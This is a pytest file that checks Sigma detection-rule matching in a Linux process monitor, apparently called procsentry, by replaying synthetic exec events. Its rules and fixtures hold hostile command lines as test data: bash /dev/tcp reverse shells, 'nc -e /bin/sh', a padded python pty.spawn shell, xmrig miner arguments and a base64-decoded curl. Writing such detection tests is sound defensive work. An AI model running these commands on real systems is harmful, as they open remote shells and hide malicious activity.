"""Sigma semantics, table-driven: each case is a rule and events written here, replayed through
`python -m monitor detect` (one replay for the whole table), and the exact set of events that
alerted is compared with the set that must.

Each event gets its own pid, so a case's expectation is a set of pids."""
from __future__ import annotations

import base64
import json
import subprocess
import sys
import uuid
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
PROCESS_CREATION = "logsource: {category: process_creation, product: linux}"
AUDITD = "logsource: {product: linux, service: auditd}"


def ev(**kw) -> dict:
    """A recorded exec event as `procsentry watch` writes it (fields not given: benign values)."""
    base = {"event": "exec", "time": "2026-12-01T10:00:00.000000000Z", "source": "bpf", "ppid": 1,
            "parent_exec_id": "b:5:1", "uid": 1000, "euid": 1000, "gid": 1000, "egid": 1000,
            "user": "alice", "comm": "true", "exe": "/usr/bin/true", "argv": ["true"],
            "argv_truncated": False, "cwd": "/home/alice", "start_time": 5, "container_id": None,
            "ns": None, "enrichment": "full", "argc": 1, "filename": "/usr/bin/true",
            "exe_deleted": False, "exe_fileless": False, "tty": None, "loginuid": 1000,
            "sessionid": 3, "capture": [], "missing": {}, "differs": None,
            "ancestry": [{"pid": 1, "exec_id": "b:5:1", "exe": "/usr/lib/systemd/systemd", "argv": ["/sbin/init"]}],
            "proc": None, "schema": 1}
    base.update(kw)
    return base


B64 = base64.b64encode(b"curl http://x").decode()
# (case, detection YAML body, logsource, [(event fields, must alert)])
CASES = [
    ("equals_case_insensitive", "sel: {Image: /usr/bin/CURL}\n  condition: sel", PROCESS_CREATION,
     [({"exe": "/usr/bin/curl"}, True), ({"exe": "/usr/bin/curl2"}, False), ({"exe": None}, False)]),
    ("wildcard_star_and_question", "sel:\n    CommandLine: 'curl * -o ?'\n  condition: sel", PROCESS_CREATION,
     [({"argv": ["curl", "http://a", "-o", "x"]}, True), ({"argv": ["curl", "http://a", "-o", "xy"]}, False),
      ({"argv": ["CURL", "u\nv", "-O", "z"]}, True)]),
    ("escaped_wildcard_is_literal", "sel:\n    CommandLine|contains: 'a\\*b'\n  condition: sel", PROCESS_CREATION,
     [({"argv": ["echo", "a*b"]}, True), ({"argv": ["echo", "axxb"]}, False)]),
    ("contains", "sel: {CommandLine|contains: dev/TCP}\n  condition: sel", PROCESS_CREATION,
     [({"argv": ["bash", "-c", "x >/dev/tcp/1.2.3.4/80"]}, True), ({"argv": ["bash", "/dev/udp"]}, False)]),
    ("startswith", "sel: {Image|startswith: /tmp/}\n  condition: sel", PROCESS_CREATION,
     [({"exe": "/tmp/x"}, True), ({"exe": "/var/tmp/x"}, False)]),
    ("endswith_is_exact_basename", "sel: {Image|endswith: /bash}\n  condition: sel", PROCESS_CREATION,
     [({"exe": "/usr/bin/bash"}, True), ({"exe": "/usr/bin/rbash"}, False), ({"exe": "/usr/bin/bash.real"}, False),
      ({"exe": "/opt/x/Bash"}, True)]),
    ("endswith_without_slash_suffix_index", "sel: {Image|endswith: TAB}\n  condition: sel", PROCESS_CREATION,
     [({"exe": "/usr/bin/crontab"}, True), ({"exe": "/usr/bin/tabs"}, False), ({"exe": "/x/tab"}, True)]),
    ("endswith_deeper_path", "sel: {Image|endswith: /bin/uname}\n  condition: sel", PROCESS_CREATION,
     [({"exe": "/usr/bin/uname"}, True), ({"exe": "/usr/sbin/uname"}, False), ({"exe": "/bin/uname2"}, False)]),
    ("parent_image_only_rule", "sel: {ParentImage|endswith: /java}\n  condition: sel", PROCESS_CREATION,
     [({"ancestry": [{"pid": 2, "exec_id": "b:5:2", "exe": "/usr/lib/jvm/bin/java", "argv": ["java"]}]}, True),
      ({"ancestry": [{"pid": 2, "exec_id": "b:5:2", "exe": "/usr/bin/javac", "argv": ["javac"]}]}, False),
      ({"ancestry": []}, False)]),
    ("list_is_or", "sel:\n    Image|endswith: [/wget, /curl]\n  condition: sel", PROCESS_CREATION,
     [({"exe": "/usr/bin/wget"}, True), ({"exe": "/usr/bin/curl"}, True), ({"exe": "/usr/bin/nc"}, False)]),
    ("contains_all", "sel:\n    CommandLine|contains|all: [' -i', '/dev/tcp/']\n  condition: sel", PROCESS_CREATION,
     [({"argv": ["bash", "-i", ">&/dev/tcp/h/1"]}, True), ({"argv": ["bash", ">&/dev/tcp/h/1"]}, False)]),
    ("re_is_case_sensitive", "sel:\n    CommandLine|re: '\\s-O\\s'\n  condition: sel", PROCESS_CREATION,
     [({"argv": ["wget", "-O", "f", "u"]}, True), ({"argv": ["wget", "-o", "f", "u"]}, False)]),
    # Python's \w, \s, \d are Unicode; RE2's ASCII ones missed a non-ASCII letter, a vertical
    # tab or a no-break space, and an Arabic-Indic digit
    ("re_perl_classes_are_pythons_unicode_ones",
     "sel: {CommandLine|re: 'xmr\\w+\\s+--url\\s\\d'}\n  condition: sel", PROCESS_CREATION,
     [({"argv": ["sh", "-c", "xmrÄig --url 1"]}, True), ({"argv": ["sh", "-c", "xmrig\v--url 1"]}, True),
      ({"argv": ["sh", "-c", "xmrig\xa0--url \u0663"]}, True), ({"argv": ["sh", "-c", "xmr --url 1"]}, False),
      ({"argv": ["sh", "-c", "xmrig-x --url 1"]}, False)]),
    ("re_unanchored", "sel:\n    CommandLine|re: 'D[0-9]+'\n  condition: sel", PROCESS_CREATION,
     [({"argv": ["auditctl", "-D42"]}, True), ({"argv": ["auditctl", "-d42"]}, False)]),
    ("re_i_flag", "sel:\n    CommandLine|re|i: 'BASE64 -D'\n  condition: sel", PROCESS_CREATION,
     [({"argv": ["base64", "-d"]}, True), ({"argv": ["base64", "-e"]}, False)]),
    ("cased", "sel:\n    CommandLine|cased|contains: Foo\n  condition: sel", PROCESS_CREATION,
     [({"argv": ["echo", "Foo"]}, True), ({"argv": ["echo", "foo"]}, False)]),
    ("cidr", "sel:\n    proc.sockets.remote|cidr: 10.0.0.0/8\n  condition: sel", PROCESS_CREATION,
     [({"proc": {"sockets": [{"fd": 3, "protocol": "tcp", "state": "ESTABLISHED", "local": "1.1.1.1:2",
                              "remote": "10.9.8.7:443", "inode": 9}]}}, True),
      ({"proc": {"sockets": [{"fd": 3, "protocol": "tcp", "state": "ESTABLISHED", "local": "1.1.1.1:2",
                              "remote": "11.0.0.1:443", "inode": 9}]}}, False),
      ({"proc": None}, False)]),
    ("exists_true", "sel:\n    tty|exists: true\n  condition: sel", PROCESS_CREATION,
     [({"tty": "pts3"}, True), ({"tty": None}, False)]),
    ("exists_false", "sel:\n    tty|exists: false\n  condition: sel", PROCESS_CREATION,
     [({"tty": "pts3"}, False), ({"tty": None}, True)]),
    ("null", "sel:\n    container_id: null\n    Image|endswith: /unshare\n  condition: sel", PROCESS_CREATION,
     [({"exe": "/usr/bin/unshare", "container_id": None}, True),
      ({"exe": "/usr/bin/unshare", "container_id": "abc"}, False)]),
    ("number_logonid", "sel:\n    LogonId: 0\n  condition: sel", PROCESS_CREATION,
     [({"uid": 0, "user": "root"}, True), ({"uid": 1000}, False)]),
    ("number_own_field", "sel:\n    argc: 0\n  condition: sel", PROCESS_CREATION,
     [({"argc": 0, "argv": []}, True), ({"argc": 1}, False)]),
    ("bool", "sel:\n    exe_fileless: true\n  condition: sel", PROCESS_CREATION,
     [({"exe_fileless": True, "exe": "/memfd:x (deleted)"}, True), ({"exe_fileless": False}, False)]),
    ("compare_gt", "sel:\n    uid|gt: 999\n  condition: sel", PROCESS_CREATION,
     [({"uid": 1000}, True), ({"uid": 999}, False), ({"uid": None}, False)]),
    ("fieldref", "sel:\n    ParentImage|fieldref: Image\n  condition: sel", PROCESS_CREATION,
     [({"exe": "/usr/bin/bash", "ancestry": [{"pid": 2, "exec_id": "b:5:2", "exe": "/usr/bin/bash", "argv": ["bash"]}]}, True),
      ({"exe": "/usr/bin/bash"}, False)]),
    ("windash", "sel:\n    CommandLine|windash|contains: ' -e '\n  condition: sel", PROCESS_CREATION,
     [({"argv": ["nc", "-e", "sh"]}, True), ({"argv": ["nc", "/e", "sh"]}, True), ({"argv": ["nc", "-x", "sh"]}, False)]),
    ("base64offset", "sel:\n    CommandLine|base64offset|contains: 'curl http'\n  condition: sel", PROCESS_CREATION,
     [({"argv": ["sh", "-c", f"echo {B64} | base64 -d"]}, True), ({"argv": ["sh", "-c", "echo Zm9v"]}, False)]),
    ("one_of_pattern", "sel_a: {Image|endswith: /a}\n  sel_b: {Image|endswith: /b}\n  other: {Image|endswith: /c}\n  condition: 1 of sel_*",
     PROCESS_CREATION, [({"exe": "/x/a"}, True), ({"exe": "/x/b"}, True), ({"exe": "/x/c"}, False)]),
    ("all_of_pattern", "sel_a: {Image|endswith: /a}\n  sel_b: {CommandLine|contains: zz}\n  condition: all of sel_*",
     PROCESS_CREATION, [({"exe": "/x/a", "argv": ["a", "zz"]}, True), ({"exe": "/x/a", "argv": ["a"]}, False)]),
    ("one_of_them", "s1: {Image|endswith: /a}\n  s2: {Image|endswith: /b}\n  condition: 1 of them",
     PROCESS_CREATION, [({"exe": "/x/b"}, True), ({"exe": "/x/d"}, False)]),
    ("all_of_them", "s1: {Image|endswith: /a}\n  s2: {User: bob}\n  condition: all of them",
     PROCESS_CREATION, [({"exe": "/x/a", "user": "BOB"}, True), ({"exe": "/x/a"}, False)]),
    ("and_or_not_parentheses",
     "sel: {Image|endswith: /curl}\n  f1: {CommandLine|contains: localhost}\n  f2: {User: root}\n  condition: sel and not (f1 or f2)",
     PROCESS_CREATION, [({"exe": "/usr/bin/curl", "argv": ["curl", "http://evil"]}, True),
                        ({"exe": "/usr/bin/curl", "argv": ["curl", "http://localhost"]}, False),
                        ({"exe": "/usr/bin/curl", "argv": ["curl", "http://evil"], "user": "root"}, False)]),
    ("or_condition", "a: {Image|endswith: /a}\n  b: {CurrentDirectory: /srv}\n  condition: a or b",
     PROCESS_CREATION, [({"cwd": "/SRV"}, True), ({"cwd": "/srv/x"}, False)]),
    ("keywords", "keywords:\n    - 'nc -e'\n  condition: keywords", PROCESS_CREATION,
     [({"argv": ["/bin/nc", "-e", "/bin/sh", "h"]}, True), ({"argv": ["nc", "-l"]}, False)]),
    ("parent_fields",
     "sel:\n    ParentImage|endswith: /nginx\n    ParentCommandLine|contains: 'master'\n  condition: sel", PROCESS_CREATION,
     [({"ancestry": [{"pid": 2, "exec_id": "b:5:2", "exe": "/usr/sbin/nginx", "argv": ["nginx:", "master", "process"]}]}, True),
      ({"ancestry": [{"pid": 2, "exec_id": "b:5:2", "exe": "/usr/sbin/nginx", "argv": ["nginx"]}]}, False),
      ({"ancestry": None}, False)]),
    # An ancestor's argv is cut after 256 bytes: a parent padding its command line past that hid
    # the rest from ParentCommandLine. The parent's own exec (earlier in the stream) has it all.
    ("parent_command_line_past_the_ancestor_cut",
     "sel: {ParentCommandLine|contains: 'pty.spawn'}\n  condition: sel", PROCESS_CREATION,
     [({"pid": 600, "exec_id": "b:5:600", "image_id": "i:600", "exe": "/usr/bin/python3.11",
        "argv": ["python3", "-c", "#" * 300 + ";import pty;pty.spawn('/bin/sh')"]}, False),
      ({"ancestry": [{"pid": 600, "exec_id": "b:5:600", "image_id": "i:600", "exe": "/usr/bin/python3.11",
                      "argv": ["python3", "-c"], "argv_truncated": True}]}, True),
      ({"ancestry": [{"pid": 600, "exec_id": "b:5:600", "image_id": "i:other", "exe": "/usr/bin/python3.11",
                      "argv": ["python3", "-c"], "argv_truncated": True}]}, False)]),
    ("ancestors_list_field", "sel:\n    ancestry.exe|endswith: /nginx\n  condition: sel", PROCESS_CREATION,
     [({"ancestry": [{"pid": 3, "exec_id": "b:5:3", "exe": "/usr/bin/dash", "argv": ["sh"]},
                     {"pid": 2, "exec_id": "b:5:2", "exe": "/usr/sbin/nginx", "argv": ["nginx"]}]}, True),
      ({"ancestry": [{"pid": 3, "exec_id": "b:5:3", "exe": "/usr/bin/dash", "argv": ["sh"]}]}, False)]),
    ("sysmon_ids", "sel:\n    ProcessId: 4242\n    ParentProcessId: 77\n    ProcessGuid|startswith: 'b:5:'\n  condition: sel",
     PROCESS_CREATION, [({"pid": 4242, "ppid": 77}, True), ({"pid": 4243, "ppid": 77}, False)]),
    ("argv_list_any_element", "sel:\n    argv: '--privileged'\n  condition: sel", PROCESS_CREATION,
     [({"argv": ["docker", "run", "--privileged"]}, True), ({"argv": ["docker", "run"]}, False)]),
    ("dotted_own_field", "sel:\n    ns.pid: 4026531836\n  condition: sel", PROCESS_CREATION,
     [({"ns": {"pid": 4026531836}}, True), ({"ns": {"pid": 4026532000}}, False), ({"ns": None}, False)]),
    # SigmaHQ writes `.*(...).*`; procsentry drops the wrapping `.*` for speed: same answers.
    ("re_wrapped_in_dot_star", "sel: {CommandLine|re: '.*(-(W|R) ([0-9a-f]{2} ){2,}).*'}\n  condition: sel",
     PROCESS_CREATION, [({"argv": ["pnscan", "-W", "aa", "bb", "cc"]}, True), ({"argv": ["x", "-W", "aa"]}, False),
                        ({"argv": ["a\nb", "-R", "0f", "1e", "2d"]}, True), ({"argv": ["x", "-w", "aa", "bb", "c"]}, False)]),
    ("auditd_execve", "sel:\n    type: EXECVE\n    a0: curl\n    a1: '-o'\n  condition: sel", AUDITD,
     [({"exe": "/usr/bin/curl", "argv": ["curl", "-o", "f", "u"]}, True), ({"exe": "/usr/bin/curl", "argv": ["curl", "-s"]}, False)]),
]
# These events test a field that needs state: ParentUser comes from the parent's own event.
PARENT_USER = ("parent_user", "sel:\n    ParentUser: www-data\n    Image|endswith: /sh\n  condition: sel", PROCESS_CREATION)


def rule_id(case: str) -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_URL, f"procsentry-test/{case}"))


def rule_yaml(case: str, detection: str, logsource: str) -> str:
    return (f"title: test {case}\nid: {rule_id(case)}\nstatus: test\nauthor: Test Author {case}\nlevel: high\n"
            f"tags: [attack.t1059]\n{logsource}\ndetection:\n  {detection}\n")


@pytest.fixture(scope="module")
def replay(tmp_path_factory):
    d = tmp_path_factory.mktemp("rules")
    events, expected, own = [], {}, {}
    pid = 1000
    for case, det, ls, table in CASES:
        (d / f"{case}.yml").write_text(rule_yaml(case, det, ls))
        expected[case], own[case] = set(), set()
        for fields, hit in table:
            pid += 1
            e = ev(pid=pid, exec_id=f"b:5:{pid}")
            e.update(fields)  # a case that sets the pid keeps its own
            events.append(e)
            own[case].add(e["pid"])
            if hit:
                expected[case].add(e["pid"])
    case, det, ls = PARENT_USER
    (d / f"{case}.yml").write_text(rule_yaml(case, det, ls))
    events += [ev(pid=500, exec_id="b:5:500", user="www-data", uid=33, exe="/usr/sbin/nginx"),
               ev(pid=501, exec_id="b:5:501", parent_exec_id="b:5:500", exe="/usr/bin/sh", user="www-data"),
               ev(pid=502, exec_id="b:5:502", parent_exec_id="b:5:999", exe="/usr/bin/sh")]
    expected[case], own[case] = {501}, {500, 501, 502}
    stream = "".join(json.dumps(e) + "\n" for e in events)
    r = subprocess.run([sys.executable, "-m", "monitor", "detect", "--no-builtin-rules", "--rules", str(d)],
                       input=stream.encode(), capture_output=True, cwd=REPO, timeout=120)
    assert r.returncode == 0, r.stderr.decode()
    alerts = [json.loads(line) for line in r.stdout.splitlines()]
    return alerts, expected, own, r.stderr.decode()


@pytest.mark.parametrize("case", [c[0] for c in CASES] + [PARENT_USER[0]])
def test_semantics(replay, case):
    alerts, expected, own, _ = replay
    # every rule sees every event; a case is judged on its own events
    got = {a["pid"] for a in alerts if a["rule"]["id"] == rule_id(case)} & own[case]
    assert got == expected[case]


def test_alert_carries_rule_metadata_and_matched_fields(replay):
    alerts, _, _, stderr = replay
    a = next(a for a in alerts if a["rule"]["id"] == rule_id("contains_all"))
    assert a["rule"] == {"id": rule_id("contains_all"), "title": "test contains_all", "level": "high",
                         "status": "test", "author": "Test Author contains_all", "tags": ["attack.t1059"],
                         "references": [], "source": "sigma",
                         "file": a["rule"]["file"]}
    assert a["rule"]["file"].endswith("/contains_all.yml")
    assert a["matched"] == {"CommandLine": "bash -i >&/dev/tcp/h/1"}
    assert a["exec_id"] == f"b:5:{a['pid']}" and a["argv"] == ["bash", "-i", ">&/dev/tcp/h/1"]
    assert a["trigger"] == "exec" and a["user"] == "alice"
    n = len(CASES) + 1
    assert f"procsentry: detection: {n} rules loaded, 0 skipped" in stderr
    assert "0 evaluation errors, 0 lines not JSON objects" in stderr
